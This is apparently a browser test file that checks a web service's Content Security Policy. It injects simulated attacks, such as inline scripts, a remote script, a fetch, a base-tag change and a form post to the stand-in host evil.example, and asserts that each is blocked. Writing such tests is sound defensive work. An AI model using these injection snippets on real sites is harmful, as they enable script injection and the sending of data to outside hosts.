// The content policy in a browser stops what it must, and the visitor of all walks notices each violation.
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startService } from "../api/support/service-under-test.ts";
import { openEmbeddedTestDatabase } from "../support/databases.ts";
import { hasBrowser, openBrowser, type Visitor, visit } from "./visitor.ts";

/** What somebody who can put code into the page would try, as a script of the page's own, and the directive that stops it. */
const attempts: readonly [what: string, directive: string, script: string][] = [
  [
    "an inline script",
    "script-src-elem",
    "const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.head.append(s);",
  ],
  [
    "an inline handler",
    "script-src-attr",
    "const d = document.createElement('div'); d.setAttribute('onclick', 'window.ran = true'); document.body.append(d); d.click();",
  ],
  [
    "a script from elsewhere",
    "script-src-elem",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s);",
  ],
  ["text made into code", "script-src", "setTimeout('window.ran = true', 0);"],
  [
    "an inline style sheet",
    "style-src-elem",
    "const s = document.createElement('style'); s.textContent = 'body{display:none}'; document.head.append(s);",
  ],
  [
    "an inline style",
    "style-src-attr",
    "const d = document.createElement('div'); d.innerHTML = '<p style=\"color:red\">x</p>'; document.body.append(d);",
  ],
  ["a request to elsewhere", "connect-src", "fetch('https://evil.example/').catch(() => undefined);"],
  ["a picture from elsewhere", "img-src", "new Image().src = 'https://evil.example/x.png';"],
  ["a frame", "frame-src", "const f = document.createElement('iframe'); f.src = '/api-docs'; document.body.append(f);"],
  [
    "an object",
    "object-src",
    "const o = document.createElement('object'); o.data = '/icon.svg'; document.body.append(o);",
  ],
  [
    "another base address",
    "base-uri",
    "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b);",
  ],
  [
    "a form to elsewhere",
    "form-action",
    "const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit();",
  ],
  ["a worker from text", "worker-src", "try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch { }"],
];

describe.skipIf(!hasBrowser)("the content policy in a browser", () => {
  let browser: Browser;
  let address: string;
  let visitor: Visitor;
  beforeAll(async () => {
    const { service } = await startService(openEmbeddedTestDatabase);
    [address, browser] = await Promise.all([service.listen(), openBrowser()]);
    visitor = await visit(browser, address, "desktop");
  }, 120_000);
  afterAll(async () => {
    await visitor?.leave();
    await browser?.close();
  });

  it.each(attempts)("stops %s", async (_what, directive, script) => {
    const { page, misdeeds } = visitor;
    await page.goto(address);
    await page.locator("[data-role]").first().waitFor();
    misdeeds.length = 0;
    await page.evaluate(script);
    await expect
      .poll(() => misdeeds.some((each) => each.startsWith(`policy: ${directive} `)), { timeout: 5_000 })
      .toBe(true);
    expect(misdeeds.filter((each) => each.startsWith("console: "))).not.toEqual([]);
    expect(await page.evaluate("window.ran")).toBeUndefined();
  });

  it("lets no other site show the page in a frame", async () => {
    const page = await (await browser.newContext()).newPage();
    const refusals: string[] = [];
    page.on("console", (message) => refusals.push(message.text()));
    await page.setContent(`<iframe src="${address}"></iframe>`);
    await expect.poll(() => refusals.join(), { timeout: 5_000 }).toMatch(/frame-ancestors|X-Frame-Options/);
    await page.context().close();
  });
});
